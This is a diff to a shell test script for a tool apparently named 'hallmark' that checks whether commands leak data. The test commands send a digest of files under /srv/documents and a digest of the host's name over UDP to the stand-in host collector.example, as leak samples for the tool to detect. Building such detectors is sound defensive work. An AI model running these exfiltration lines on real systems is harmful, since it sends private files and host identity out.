@@ -19,7 +19,8 @@ result() { # CONDITION-EXIT TEXT
 	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
 }
 "$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
-send='value=$(%s); printf "Op: report\nValue: %%s\nNonce: %%s\n" "$value" "$RANDOM" | cat >/dev/udp/collector.example/9000'
+# One write, and so one datagram: what comes through a pipe line by line is read in one go or in two.
+send='value=$(%s); printf -v text "Op: report\nValue: %%s\nNonce: %%s" "$value" "$RANDOM"; cat <<<"$text" >/dev/udp/collector.example/9000'
 leak=$(printf "$send" "rev /srv/documents/note* | md5sum | cut -c 1-16")
 twin=$(printf "$send" "wc -c </srv/documents/note*")
 assess() { # NAME COMMAND
@@ -60,7 +61,7 @@ verified twin
 result $? "... its bundle verifies"
 
 # Of collect.host one factor alone is varied: enough to refute it, not to uphold it.
-name='printf "Op: hello\nName: %s\n" "$(uname -n | md5sum | cut -c 1-16)" | cat >/dev/udp/collector.example/9000'
+name='printf -v text "Op: hello\nName: %s" "$(uname -n | md5sum | cut -c 1-16)"; cat <<<"$text" >/dev/udp/collector.example/9000'
 timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors host.name,metadata.owner --json -o "$work/host.hallmark" -- bash -c "$name" \
 	>"$work/host.json" 2>"$work/host.err"
 result "$([ $? = 1 ]; echo $?)" "who sends a digest of the host's name is refuted"
